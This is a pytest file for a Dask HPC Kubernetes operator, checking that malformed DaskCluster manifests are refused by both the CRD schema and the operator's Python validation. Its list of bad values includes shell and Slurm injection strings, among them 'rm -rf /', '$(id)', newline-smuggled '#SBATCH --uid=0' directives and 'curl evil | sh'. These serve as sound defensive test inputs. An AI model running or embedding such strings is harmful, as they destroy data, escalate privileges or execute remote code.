"""Bad manifests are refused twice: by the shipped CRD's schema (as the API server checks
it) and by the operator's own validation — and neither needs the other.

The CRD check uses the YAML files in crds/ exactly as the chart ships them, with a plain
JSON-schema validator; CEL rules (x-kubernetes-validations) are the API server's and are not
evaluated here, which is why the operator repeats them in Python.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from dask_hpc_operator.validation import ManifestError, validate

CRDS = Path(__file__).resolve().parents[2] / "crds"

GOOD: dict[str, Any] = {
    "apiVersion": "hpc.dask.org/v1alpha1",
    "kind": "DaskCluster",
    "metadata": {"name": "ok", "namespace": "default"},
    "spec": {"worker": {"replicas": 2, "memory": "2GiB", "queue": "debug"},
             "scheduler": {"walltime": "02:00:00"}},
}

# (path in spec, bad value, the field the operator must name)
BAD = [
    (("worker", "replicas"), -1, "spec.worker.replicas"),
    (("worker", "replicas"), 10**9, "spec.worker.replicas"),
    (("worker", "replicas"), "two", "spec.worker.replicas"),
    (("worker", "cores"), 0, "spec.worker.cores"),
    (("worker", "memory"), "16 GB", "spec.worker.memory"),
    (("worker", "memory"), "lots", "spec.worker.memory"),
    (("worker", "memory"), "1GiB\n#SBATCH --uid=0", "spec.worker.memory"),
    (("worker", "walltime"), "1h", "spec.worker.walltime"),
    (("worker", "walltime"), "25:99:00", "spec.worker.walltime"),
    (("worker", "queue"), "debug; rm -rf /", "spec.worker.queue"),
    (("worker", "queue"), "debug\n#SBATCH --uid=0", "spec.worker.queue"),
    (("worker", "account"), "$(id)", "spec.worker.account"),
    (("worker", "account"), "`id`", "spec.worker.account"),
    (("worker", "prologue"), ["module load x; curl evil | sh"], "spec.worker.prologue[0]"),
    (("worker", "prologue"), ["echo $HOME"], "spec.worker.prologue[0]"),
    (("worker", "extraDirectives"), ["--x=1\n#SBATCH --uid=0"], "spec.worker.extraDirectives[0]"),
    (("worker", "extraDirectives"), ["--comment='a b'"], "spec.worker.extraDirectives[0]"),
    (("worker", "workerArgs"), ["--nthreads 4"], "spec.worker.workerArgs[0]"),
    (("worker", "env"), [{"name": "A B", "value": "x"}], "spec.worker.env[0].name"),
    (("worker", "env"), [{"name": "A", "value": "x\ny"}], "spec.worker.env[0].value"),
    (("worker", "gpus"), -2, "spec.worker.gpus"),
    (("scheduler", "protocol"), "http", "spec.scheduler.protocol"),
    (("scheduler", "memory"), "-1GiB", "spec.scheduler.memory"),
    (("backend",), "kubernetes", "spec.backend"),
    (("idleTimeout",), -5, "spec.idleTimeout"),
]


def crd_validator(kind_plural: str) -> jsonschema.Draft7Validator:
    crd = yaml.safe_load((CRDS / f"{kind_plural}.yaml").read_text())
    return jsonschema.Draft7Validator(crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"])


def with_value(path: tuple[str, ...], value: Any) -> dict[str, Any]:
    manifest = copy.deepcopy(GOOD)
    target = manifest["spec"]
    for key in path[:-1]:
        target = target.setdefault(key, {})
    target[path[-1]] = value
    return manifest


def test_the_good_manifest_passes_both() -> None:
    assert not list(crd_validator("daskclusters").iter_errors(GOOD))
    assert validate(GOOD)["spec"]["worker"]["cores"] == 1  # defaulted


@pytest.mark.parametrize(("path", "value", "field"), BAD,
                         ids=[f"{'.'.join(p)}={v!r}"[:60] for p, v, _ in BAD])
def test_refused_by_the_crd_and_by_the_operator(path: tuple[str, ...], value: Any,
                                                field: str) -> None:
    manifest = with_value(path, value)
    assert list(crd_validator("daskclusters").iter_errors(manifest)), "the CRD accepted it"
    with pytest.raises(ManifestError) as refused:
        validate(manifest)
    assert refused.value.field == field
    assert field in str(refused.value)


@pytest.mark.parametrize(("path", "value", "field"), [
    (("worker", "processes"), 8, "spec.worker.processes"),  # CEL in the CRD
    (("worker", "cuda"), {"enabled": True}, "spec.worker.gpus"),  # CEL in the CRD
    (("worker", "replica"), 3, "spec.worker.replica"),  # the API server prunes, we refuse
])
def test_refused_by_the_operator_where_the_schema_cannot(path: tuple[str, ...], value: Any,
                                                         field: str) -> None:
    with pytest.raises(ManifestError) as refused:
        validate(with_value(path, value))
    assert refused.value.field == field


def test_crds_carry_cel_rules_for_cross_field_checks() -> None:
    crd = yaml.safe_load((CRDS / "daskclusters.yaml").read_text())
    worker = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"][
        "properties"]["worker"]
    rules = " ".join(r["rule"] for r in worker["x-kubernetes-validations"])
    assert "self.processes <= self.cores" in rules and "self.gpus >= 1" in rules
